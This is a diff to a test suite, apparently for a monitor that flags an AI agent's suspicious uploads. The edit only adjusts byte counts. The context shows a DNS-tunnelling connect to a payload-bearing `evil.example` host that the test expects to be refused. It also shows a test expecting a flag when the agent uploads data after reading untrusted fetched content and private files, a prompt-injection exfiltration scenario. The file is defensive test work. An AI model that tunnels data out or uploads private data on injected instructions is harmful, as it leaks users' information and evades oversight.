@@ -105,7 +105,7 @@ it('what is unusual about a run is in its record, in the record of what did it, 
   await world.restart();
   const again = await world.connect(run.credential);
   const opened = await connect(again, 'sink.test', sink.port);
-  expect((await end(again, seqOf(opened), { bytes_up: 200_000, bytes_down: 10 })).status).toBe('success');
+  expect((await end(again, seqOf(opened), { bytes_up: 204_800, bytes_down: 10 })).status).toBe('success');
   const tunnelled = await connect(again, `${PAYLOAD}.t.evil.example`);
   expect(codeOf(tunnelled)).toBe('address_refused');
   expect(kinds(flagsOf(world, run)).slice(3)).toEqual([
@@ -200,16 +200,16 @@ it('a tool that says `openWorldHint`, and servers that the operator names, count
   const tools = [tool('fetch', { annotations: { openWorldHint: true } }), tool('render')];
   await new Lister(run.client, 'browser').seen(tools);
   await call(run, 'browser', 'render');
-  expect(await upload(run, 'one.test', 200_000)).toEqual([]);
+  expect(await upload(run, 'one.test', 204_800)).toEqual([]);
   const ref = await call(run, 'browser', 'fetch');
-  expect(await upload(run, 'two.test', 5000)).toEqual([]);
+  expect(await upload(run, 'two.test', 5120)).toEqual([]);
   const own = await call(run, 'files', 'read');
-  expect(await upload(run, 'three.test', 5000)).toEqual([
+  expect(await upload(run, 'three.test', 5120)).toEqual([
     expect.stringMatching(
       `^5.0 KB to \`three.test\`, new to \`claude\`, \\d+ s after reading from tool \`browser.fetch\` \\(${ref}\\), and private data from tool \`files.read\` \\(${own}\\)$`,
     ),
   ]);
   const other = await openRun(world);
   await call(other, 'issues', 'list');
-  expect(await upload(other, 'four.test', 200_000)).toHaveLength(1);
+  expect(await upload(other, 'four.test', 204_800)).toHaveLength(1);
 });
